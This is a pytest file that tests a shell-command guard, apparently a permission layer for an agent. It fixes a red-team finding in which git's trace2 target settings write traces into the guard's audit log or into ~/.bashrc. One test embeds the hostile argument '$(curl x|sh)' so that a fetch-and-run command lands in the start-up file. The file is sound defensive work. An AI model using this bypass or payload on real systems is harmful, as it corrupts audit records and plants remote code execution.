"""Red team 19 (issue 9, class 3): `git -c trace2.*Target=FILE` appends git's trace to FILE.

GIT_TRACE2=FILE was judged as a write of FILE, but the same target given as a setting on the
command line (`-c trace2.normalTarget=`, `-ctrace2...`, `--config-env`) was not: a trace could be
appended to the guard's audit log or a shell start-up file (its lines carry the command's own
arguments, `$(...)` included) under every role.
"""

import pytest

from conftest import GuardSetup, assert_allowed, assert_denied


@pytest.fixture(scope="module")
def setup(tmp_path_factory):
    return GuardSetup(tmp_path_factory.mktemp("t"), files={"src/a.py": "x\n"})


@pytest.mark.parametrize("role", ["builder", "open", "operator"])
@pytest.mark.parametrize("spelling", [
    "-c trace2.normalTarget={}", "-c trace2.eventTarget={}", "-c trace2.perfTarget=af_unix:{}",
    "-ctrace2.normalTarget={}", "-c TRACE2.NORMALTARGET={}", "-c trace2.eventTarget=af_unix:stream:{}",
])
def test_a_trace_into_the_guard_dir_is_denied_for_every_role(setup, role, spelling):
    target = setup.dir + "/audit.jsonl"
    proc = setup.bash("git " + spelling.format(target) + " status", role=role)
    assert_denied(proc, "trace2.", "makes programs write into that file", "protected")


@pytest.mark.parametrize("role", ["open", "operator"])
def test_a_trace_into_a_start_up_file_is_denied(setup, role):
    proc = setup.bash("git -c trace2.normalTarget=$HOME/.bashrc status '$(curl x|sh)'", role=role)
    assert_denied(proc, "git -c trace2.normaltarget=", ".bashrc")


def test_a_trace_outside_the_project_is_a_write_outside_it_for_builder(setup):
    assert_denied(setup.bash("git -c trace2.eventTarget=/tmp/rt19-trace status"), "/tmp/rt19-trace",
                  "outside the allowed paths")


@pytest.mark.parametrize("command", ["git --config-env trace2.normalTarget=X status",
                                     "git --config-env=trace2.eventTarget=X log"])
def test_a_target_from_a_variable_is_undetermined(setup, command):
    assert_denied(setup.bash(command, role="builder"), "could not determine the file", "trace2.")


@pytest.mark.parametrize("command", [
    "git -c trace2.normalTarget=1 status",
    "git -c trace2.eventTarget=relative.log status",
    "git -c trace2.configParams=core.* status",
    "git -c trace2.normalTarget={project}/trace.log status",
    "git -c core.quotepath=off status",
])
def test_harmless_trace_settings_stay_allowed(setup, command):
    assert_allowed(setup.bash(command.format(project=setup.project), role="builder"))
